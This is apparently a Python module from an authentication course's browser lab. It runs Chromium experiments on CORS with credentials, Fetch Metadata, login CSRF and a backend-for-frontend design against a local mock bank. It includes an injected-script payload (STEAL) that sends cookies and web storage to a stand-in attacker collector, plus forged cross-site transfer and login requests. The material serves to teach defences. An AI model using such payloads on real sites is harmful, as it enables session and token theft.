"""Chapter 15's experiments, in Chromium or as recorded: CORS with credentials, Fetch Metadata, login CSRF, a BFF.

Each `*_experiment(browser)` runs live when a Chromium is there (pass one `Browser` to share it) and
otherwise returns the rows recorded in Chromium by `tools/record_browser_results.py crossorigin`
(`recorded/crossorigin.json`), each with `recorded=True`. Every row carries the model's prediction
next to what Chromium did, so a test (and the reader) can compare the two.
"""

from __future__ import annotations

import json
import uuid
from dataclasses import asdict, dataclass, fields
from importlib import resources
from typing import Any
from urllib.parse import quote

from ..fleet.resulttable import ResultTable
from .browser import Browser, Tab, chromium_path
from .cookiemodel import Request, predict
from .crossorigin import POLICIES, cors_prediction
from .experiments import ALICE, FRONT_END, injected, log_in
from .servers import BANK, OTHER_SITE, SAME_SITE, LabServer
from .sites import fetch_site

RECORDED = "crossorigin.json"
WAIT = 5.0  # seconds
FORM = "application/x-www-form-urlencoded"
REQUESTS = {  # what a page's script asks for, in fetch's words; the last field: a preflight is needed
    "GET (read the data)": ("data", "{credentials: 'include'}", False),
    "simple POST (a form body)": ("transfer", "{method: 'POST', credentials: 'include', body: 'to=mallory', "
                                  f"headers: {{'content-type': '{FORM}'}}}}", False),
    "JSON POST (preflighted)": ("transfer", "{method: 'POST', credentials: 'include', body: '{\"to\": \"mallory\"}', "
                                "headers: {'content-type': 'application/json'}}", True),
}
TRY_FETCH = """async ([url, init]) => {
  try { const r = await fetch(url, init); return {read: true, text: await r.text()}; }
  catch (e) { return {read: false, text: String(e)}; }
}"""


def source(rows: list[Any]) -> str:
    """Where the rows come from, in the words of the other browser chapters (notebooks/sanitize.cfg knows them)."""
    version = next((row.chromium for row in rows if row.chromium), "?")
    if not any(row.recorded for row in rows):
        return f"Chromium results: live, Chromium {version}"
    return (f"Chromium results: RECORDED in Chromium {version} (no browser here; install chromium and run "
            "`python tools/record_browser_results.py crossorigin` or this notebook to see them live)")


def where_from(browser: Browser | None) -> str:
    """Where this chapter's tables will come from: the live `browser`, or the recording when there is none."""
    if browser is not None or chromium_path() is not None:
        return source([MetadataRow(*[""] * 8, 0, chromium=browser.version if browser else "(started per table)")])
    return source([MetadataRow(*[""] * 8, 0, chromium=read_recorded()["chromium"], recorded=True)])


def tag_url(url: str, tag: str) -> str:
    return url + ("&" if "?" in url else "?") + f"tag={tag}"


# Fetch Metadata -----------------------------------------------------------------------------------

@dataclass(frozen=True)
class MetadataRow:
    """One request as Chromium sent it: its Sec-Fetch-* and Origin headers, and what each server answered."""

    request: str
    method: str
    site: str  # Sec-Fetch-Site as sent
    mode: str
    dest: str
    user: str  # Sec-Fetch-User ("?1" when the user's own click or typing started a navigation)
    origin: str  # the Origin header without its port (the lab's ports are random), "" when not sent
    predicted_site: str  # the model's Sec-Fetch-Site (sites.fetch_site)
    guarded_status: int  # what the server with CrossSiteGuard answered
    chromium: str = ""
    recorded: bool = False

    @property
    def agrees(self) -> bool:
        return self.predicted_site == self.site


# (name, kind, the page's host or None for the address bar); every target is https://bank.test/lab/meta/...
METADATA_CASES = (
    ("same-origin fetch POST", "fetch", BANK),
    ("same-site, cross-origin fetch POST", "fetch", SAME_SITE),
    ("cross-site fetch POST", "fetch", OTHER_SITE),
    ("cross-site form POST", "form-post", OTHER_SITE),
    ("cross-site link (top-level GET)", "navigate", OTHER_SITE),
    ("URL typed by the user (GET)", "typed", None),
)


def send_one(tab: Tab, lab: LabServer, kind: str, page_host: str | None, tag: str) -> None:
    target = tag_url(lab.url(BANK, "/lab/meta/target"), tag)
    if kind == "typed":
        tab.goto(target)
    elif kind == "fetch":
        tab.goto(lab.url(page_host or BANK, "/lab/search"))
        tab.page.evaluate(TRY_FETCH, [target, {"method": "POST", "credentials": "include", "body": "a=1",
                                               "headers": {"content-type": FORM}}])
    else:
        other = lab.url(page_host or OTHER_SITE, f"/lab/other?kind={kind}&target={quote(target, safe='')}")
        with tab.page.expect_response(lambda response: tag in response.url):
            tab.goto(other)
            if kind == "navigate":
                tab.page.click("#go")
        tab.page.wait_for_load_state("load")


def arrived(lab: LabServer, tag: str) -> Any:
    log = lab.app.state.crossorigin  # type: ignore[union-attr]
    if not log.wait_for(lambda: bool(log.tagged(tag)), WAIT):
        raise TimeoutError(f"request {tag} never reached the lab")
    return log.tagged(tag)[-1]


def run_metadata(browser: Browser) -> list[MetadataRow]:
    rows = []
    with LabServer("session", cross_site_guard=True) as lab:  # the witness records what arrived, before the guard
        tab = browser.tab()
        try:
            for name, kind, page_host in METADATA_CASES:
                tag = uuid.uuid4().hex
                send_one(tab, lab, kind, page_host, tag)
                seen = arrived(lab, tag)
                sent = [seen.headers.get(f"sec-fetch-{name}", "") for name in ("site", "mode", "dest", "user")]
                rows.append(MetadataRow(
                    name, seen.method, *sent, shorten_origin(seen.headers.get("origin", "")),
                    fetch_site(lab_page(lab, page_host), lab.url(BANK, "/lab/meta/target")), seen.status,
                    browser.version))
        finally:
            tab.close()
    return rows


def lab_page(lab: LabServer, host: str | None) -> str | None:
    return None if host is None else lab.url(host, "/lab/search")


def fetch_metadata_experiment(browser: Browser | None = None) -> list[MetadataRow]:
    """Six requests to https://bank.test from the bank itself, its sibling app.bank.test, evil.test and the
    address bar: the Fetch Metadata Chromium sent, and what the bank, running CrossSiteGuard, answered."""
    return live_or_recorded("fetch_metadata", MetadataRow, run_metadata, browser)


def metadata_table(rows: list[MetadataRow]) -> ResultTable:
    body = [(row.request, row.site, row.mode, row.dest, row.user or "-", row.origin or "-",
             "yes" if row.predicted_site == row.site else f"NO ({row.predicted_site})",
             row.guarded_status) for row in rows]
    return ResultTable.of(
        ("request to https://bank.test", "Sec-Fetch-Site", "-Mode", "-Dest", "-User", "Origin", "model agrees",
         "guard answered"), body,
        caption="headers as the server received them, from Chromium (a Playwright context, third-party cookies "
                "blocked), before CrossSiteGuard, and what the guard answered",
        notes=[source(rows)])


def shorten_origin(origin: str) -> str:
    """`https://evil.test:41234` -> `https://evil.test` (the lab's ports are random; ports never make a site)."""
    if not origin or origin == "null":
        return origin
    scheme, _, rest = origin.partition("://")
    return f"{scheme}://{rest.split(':')[0]}"


# CORS with credentials ----------------------------------------------------------------------------

@dataclass(frozen=True)
class CorsRow:
    """One credentialed fetch from another origin's page to the bank's API, under one CORS policy."""

    policy: str
    page: str  # the calling page's origin, without its port
    request: str  # a key of REQUESTS
    third_party_cookies: bool  # the browser setting it was measured with
    preflight_sent: bool
    request_sent: bool
    cookie_sent: bool
    readable: bool  # the page's script got the response body
    read_status: int  # the status of the response the page read (0: it read nothing)
    read_text: str  # the body the page's script read ("" when it read nothing), its first 80 characters
    state_changed: bool  # the transfer happened on the server
    predicted: tuple[bool, bool, bool]  # the model's (request sent, cookie sent, readable)
    chromium: str = ""
    recorded: bool = False

    @property
    def agrees(self) -> bool:
        return self.predicted == (self.request_sent, self.cookie_sent, self.readable)


def seen_by_lab(log: Any, tag: str) -> list[Any]:
    """What the lab's witness recorded of the request tagged `tag` (its preflight included)."""
    log.wait_for(lambda: bool(log.tagged(tag)), WAIT)
    return log.tagged(tag)


def cors_calls(tab: Tab, lab: LabServer, host: str, policies: tuple[str, ...], third_party: bool) -> list[CorsRow]:
    log = lab.app.state.crossorigin  # type: ignore[union-attr]
    page = lab.url(host, "/lab/search")
    origin = page.rsplit("/lab/", 1)[0]
    tab.goto(page)
    rows = []
    for policy in policies:
        for request, (route, init, preflighted) in REQUESTS.items():
            tag = uuid.uuid4().hex
            url = tag_url(lab.url(BANK, f"/lab/cors/{policy}/{route}"), tag)
            answer = tab.page.evaluate(f"async (url) => ({TRY_FETCH})([url, {init}])", url)
            seen = seen_by_lab(log, tag)  # the witness records before the browser gets the answer: all is here
            actual = [item for item in seen if item.method != "OPTIONS"]
            read_status = actual[-1].status if answer["read"] else 0
            kind = "fetch-post" if route == "transfer" else "fetch"
            cookie = predict(lab.app.state.auth.cookie, lab.url(BANK, "/lab/login"),  # type: ignore[union-attr]
                             Request(kind, url, from_url=page, third_party_cookies=third_party))
            sent, readable = cors_prediction(policy, origin, log.allowed, preflighted)
            rows.append(CorsRow(
                policy, shorten_origin(origin), request, third_party, any(item.method == "OPTIONS" for item in seen),
                bool(actual), any("sid" in item.cookies for item in actual), bool(answer["read"]), read_status,
                answer["text"][:80] if answer["read"] else "",
                any(item["tag"] == tag for item in log.transfers), (sent, sent and cookie.sent, readable),
                "", False))
    return rows


def run_cors(browser: Browser) -> list[CorsRow]:
    rows = []
    with LabServer("session", cookie_same_site="None") as lab:
        lab.app.state.crossorigin.allowed.add(lab.url(FRONT_END, ""))  # type: ignore[union-attr]
        for third_party in (True, False):
            tab = browser.tab(third_party_cookies=third_party)
            try:
                log_in(tab, lab)
                if third_party:
                    rows += cors_calls(tab, lab, OTHER_SITE, POLICIES, True)
                    rows += cors_calls(tab, lab, FRONT_END, ("allowlist",), True)
                else:
                    rows += cors_calls(tab, lab, OTHER_SITE, ("reflect",), False)
            finally:
                tab.close()
    return [CorsRow(**{**asdict(row), "chromium": browser.version}) for row in rows]


def cors_experiment(browser: Browser | None = None) -> list[CorsRow]:
    """Alice is logged in at https://bank.test (session cookie SameSite=None; Secure). Pages on evil.test and
    front.test (the one origin the allow-list names) call the bank's API with `credentials: 'include'`
    under each CORS policy; the last rows repeat `reflect` with third-party cookies blocked."""
    return live_or_recorded("cors", CorsRow, run_cors, browser)


def yes(flag: bool) -> str:
    return "yes" if flag else "no"


def cors_table(rows: list[CorsRow]) -> ResultTable:
    body = [(row.policy, row.page, row.request, "allowed" if row.third_party_cookies else "blocked",
             yes(row.preflight_sent), yes(row.request_sent), yes(row.cookie_sent),
             f"yes ({row.read_status})" if row.readable else "no",
             yes(row.state_changed), "yes" if row.agrees else "NO") for row in rows]
    return ResultTable.of(
        ("policy", "calling page", "request", "3rd-party cookies", "preflight", "request sent", "cookie sent",
         "page reads it", "state changed", "model agrees"), body,
        caption="Chromium's own behaviour, fetch(..., {credentials: 'include'}) to https://bank.test/lab/cors/...; "
                "third-party cookies allowed (a profile on disk) or blocked (the lab's default)",
        notes=[source(rows)])


# Login CSRF ------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class LoginCsrfRow:
    """The attacker's page logs the victim's browser into the attacker's account, or fails to."""

    server: str
    sec_fetch_site: str  # what the forged login carried
    forged_status: int  # what the bank answered the forged login
    logged_in_as: str  # whom the bank sees in the victim's browser afterwards
    chromium: str = ""
    recorded: bool = False


def run_login_csrf(browser: Browser) -> list[LoginCsrfRow]:
    rows = []
    for server, guard in (("form login, no defence", False), ("form login + CrossSiteGuard", True)):
        with LabServer("session", cross_site_guard=guard) as lab:
            tab = browser.tab()
            try:
                log_in(tab, lab)
                target = lab.url(BANK, "/lab/form-login")
                with tab.page.expect_response(lambda response: response.url == target) as response:
                    tab.goto(lab.url(OTHER_SITE, f"/lab/attacker-login?target={quote(target, safe='')}"))
                status = response.value.status
                tab.page.wait_for_load_state("load")
                forged = [item for item in lab.app.state.crossorigin.seen  # type: ignore[union-attr]
                          if item.path == "/lab/form-login"][-1]
                tab.goto(lab.url(BANK, "/lab/search"))
                profile = tab.page.evaluate("() => fetch('/api/profile').then(r => r.json())")
            finally:
                tab.close()
        rows.append(LoginCsrfRow(server, forged.headers.get("sec-fetch-site", ""), status,
                                 (profile.get("user") or {}).get("email", "nobody"), browser.version))
    return rows


def login_csrf_experiment(browser: Browser | None = None) -> list[LoginCsrfRow]:
    """Alice is logged in at the bank; a page on evil.test auto-posts Mallory's email and password to the
    bank's form login. Without a defence the bank swaps Alice's session for Mallory's."""
    return live_or_recorded("login_csrf", LoginCsrfRow, run_login_csrf, browser)


def login_csrf_table(rows: list[LoginCsrfRow]) -> ResultTable:
    body = [(row.server, row.sec_fetch_site, row.forged_status, row.logged_in_as) for row in rows]
    return ResultTable.of(
        ("bank's login", "forged POST carried Sec-Fetch-Site", "bank answered", "victim's browser is now logged in as"),
        body, caption="a form on https://evil.test posts Mallory's credentials to https://bank.test/lab/form-login, "
                      "in the lab's Chromium (a Playwright context)", notes=[source(rows)])


# Backend-for-frontend -------------------------------------------------------------------------------

@dataclass(frozen=True)
class SpaRow:
    """What a script injected into the SPA's origin finds, and what it can still do."""

    design: str
    token_found: bool  # the API token was in what the script could read
    readable: str  # what the script read: document.cookie and storage, shortened
    api_status: int  # the script's own call to the profile (through the BFF or with the token)
    chromium: str = ""
    recorded: bool = False


STEAL = ("Promise.all([fetch('/lab/bff/profile').then(r => r.status), fetch('/api/profile', {headers: "
         "{authorization: 'Bearer ' + localStorage.getItem('token')}}).then(r => r.status)]).then(([b, t]) => "
         "new Image().src = 'COLLECTOR?cookie=' + encodeURIComponent(document.cookie) + '&storage=' + "
         "encodeURIComponent(JSON.stringify({...localStorage, ...sessionStorage})) + '&bff=' + b + '&token=' + t)")


def run_bff(browser: Browser) -> list[SpaRow]:
    rows = []
    with LabServer("token") as lab:
        for design in ("SPA keeps the token in localStorage", "SPA behind a BFF (HttpOnly cookie)"):
            tab = browser.tab()
            try:
                if design.startswith("SPA keeps"):
                    log_in(tab, lab)
                    token = tab.script_view()["localStorage"].get("token", "")
                else:
                    tab.goto(lab.url(BANK, "/lab/bff/spa"))
                    if tab.page.evaluate("([e, p]) => login(e, p)", list(ALICE)) != 200:
                        raise RuntimeError("the BFF login failed")
                    token = next(iter(lab.app.state.crossorigin.bff_tokens.values()))  # type: ignore[union-attr]
                before = len(lab.log.stolen)
                collector = lab.url(OTHER_SITE, "/lab/collect")
                tab.goto(lab.url(BANK, injected(STEAL.replace("COLLECTOR", collector))))
                lab.log.wait_for(lambda: len(lab.log.stolen) > before, WAIT)
                seen = lab.log.stolen[-1]
            finally:
                tab.close()
            found = bool(token) and token in (seen.get("cookie", "") + seen.get("storage", ""))
            status = int(seen.get("token" if design.startswith("SPA keeps") else "bff", 0))
            readable = f"document.cookie={seen.get('cookie', '')!r}, storage keys={sorted(json.loads(seen['storage']))}"
            rows.append(SpaRow(design, found, readable, status, browser.version))
    return rows


def bff_experiment(browser: Browser | None = None) -> list[SpaRow]:
    """Alice logs in to the SPA at https://bank.test, then a script is injected into that origin (the lab's
    search page): once where the SPA keeps the API token in localStorage, once where a BFF keeps it."""
    return live_or_recorded("bff", SpaRow, run_bff, browser)


def bff_table(rows: list[SpaRow]) -> ResultTable:
    body = [(row.design, yes(row.token_found), row.readable, row.api_status) for row in rows]
    return ResultTable.of(("design", "injected script found the token", "what it could read",
                           "its own API call"), body,
                          caption="a script injected into https://bank.test, in the lab's Chromium "
                                  "(a Playwright context)", notes=[source(rows)])


# Live or recorded ---------------------------------------------------------------------------------

def read_recorded() -> dict[str, Any]:
    text = resources.files("authcourse.browserlab").joinpath("recorded", RECORDED).read_text(encoding="utf-8")
    return json.loads(text)


def from_record(cls: Any, item: dict[str, Any], version: str) -> Any:
    values = {f.name: item[f.name] for f in fields(cls) if f.name in item}
    if "predicted" in values:
        values["predicted"] = tuple(values["predicted"])
    return cls(**{**values, "chromium": version, "recorded": True})


def live_or_recorded(name: str, cls: Any, run: Any, browser: Browser | None) -> list[Any]:
    if browser is not None:
        return browser.run(run, browser)
    if chromium_path() is None:
        data = read_recorded()
        return [from_record(cls, item, data["chromium"]) for item in data[name]]
    with Browser() as own:
        return own.run(run, own)


def record_all(browser: Browser) -> tuple[dict[str, Any], list[str]]:
    """Every experiment of the chapter, live, as `recorded/crossorigin.json` keeps it; and the rows where
    Chromium and the model disagree."""
    found = {"fetch_metadata": fetch_metadata_experiment(browser), "cors": cors_experiment(browser),
             "login_csrf": login_csrf_experiment(browser), "bff": bff_experiment(browser)}
    disagree = [f"{name}: {row}" for name in ("fetch_metadata", "cors") for row in found[name] if not row.agrees]
    return {"chromium": browser.version, **{name: [asdict(row) for row in rows] for name, rows in found.items()}}, \
        disagree
